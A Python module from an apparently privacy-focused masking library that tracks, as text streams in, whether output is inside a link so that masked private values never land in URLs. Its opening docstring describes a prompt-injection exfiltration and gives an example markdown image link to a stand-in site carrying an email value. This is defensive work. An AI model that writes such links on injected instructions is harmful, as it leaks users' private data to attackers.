r"""Is a place of a growing text inside a link? Values must never be put there.

Whoever can slip a model a text (a page, a document) can have it write `![](https://their.site/?q=<EMAIL_1>)`:
with the value in it, showing the answer would send it to them. Better one link too many than one too few.
"""

import re

from aboveboard.privacy.masking._enclosures import Enclosures
from aboveboard.privacy.masking._escapes import unescaped, unfinished_escape_from

_TAIL = 96  # the longest beginning of a link has 80 characters
_DOT = r"[.\u3002\uff0e\uff61]"
# How a link begins, with what opens it: a scheme, `//host`, `www.`, a host's name or number and what goes on
# behind it; marks may be escaped, names of any script.
_START = re.compile(
    r"(?P<open>\\?[\"']|<|)(?:[a-z][a-z0-9+.-]{1,15}:[/\\]"
    r"|(?:https?|ftp|data|javascript|mailto|sms|smsto|tel):|[/\\]{2}"
    rf"|www{_DOT}"
    rf"|(?:(?<=[^\W_]{_DOT})(?:[^\W\d_]{{2,24}}|xn--[a-z0-9-]{{2,59}}){_DOT}?|(?:[0-9]{{1,3}}\.){{3}}[0-9]{{1,3}}"
    r"|\[[0-9a-f.]{0,4}:[0-9a-f:.]{1,41}\])(?::[0-9]{1,5})?[/\\?#])",
    re.IGNORECASE,
)
_MAY_START = re.compile(r"[:/\\.?#\u3002\uff0e\uff61]")  # every start ends in one of these
# What is opened ends where it is closed (spaces may be inside then), and then as all others: at white space
# of ASCII, since what finds links in text (CommonMark's extensions and others) reads on over any other mark.
_CLOSES = {
    '"': re.compile(r'(?<!\\)"'),
    "'": re.compile(r"(?<!\\)'"),
    '\\"': re.compile('"'),
    "\\'": re.compile("'"),
    "<": re.compile(r"[>\n]"),
}
_OVER = re.compile(r"[ \t-\r]")
_OVER_IN_JSON = re.compile(r"[ \t-\r]|(?<!\\)\"")


class LinkWatch:
    """Reads a text in pieces, as it is written and as its escapes are read; `is_inside` says whether what
    comes next continues a link.
    """

    def __init__(self, *, is_json: bool = False) -> None:
        over = _OVER_IN_JSON if is_json else _OVER
        self._written, self._read = _Links(over), _Links(over)
        self._escape = ""
        self._enclosures = Enclosures()

    @property
    def is_inside(self) -> bool:
        return (
            self._enclosures.is_inside
            or self._written.is_inside
            or self._read.is_inside
            or (self._escape != "" and self._read.would_begin(unescaped(self._escape)))
        )

    def read(self, text: str) -> None:
        """Takes in the next piece. Any split of a text gives the same; linear."""
        self._enclosures.read(text)
        self._written.read(text)
        text = self._escape + text
        begun = unfinished_escape_from(text)
        self._escape = text[begun:]
        self._read.read(unescaped(text[:begun]))


class _Links:
    """Reads a text in one way."""

    def __init__(self, over: re.Pattern[str]) -> None:
        self._over = over
        self._end: re.Pattern[str] | None = None
        self._tail = ""

    @property
    def is_inside(self) -> bool:
        return self._end is not None

    def would_begin(self, text: str) -> bool:
        """Whether a link begins with what comes next, were it this."""
        return _START.search(self._tail + text) is not None

    def read(self, text: str) -> None:
        """Takes in the next piece."""
        if self._end is None and not _MAY_START.search(text):
            self._tail = (self._tail + text)[-_TAIL:]
            return
        text, place = self._tail + text, len(self._tail) if self._end else 0
        while place <= len(text):
            if self._end is not None:
                over = self._end.search(text, place)
                if over is None:
                    break
                self._end, place = None if self._end is self._over else self._over, over.start()
                continue
            start = _START.search(text, place)
            if start is None:
                break
            self._end, place = _CLOSES.get(start["open"], self._over), start.end()
        self._tail = text[max(place, len(text) - _TAIL) :] if self._end is None else text[-1:]
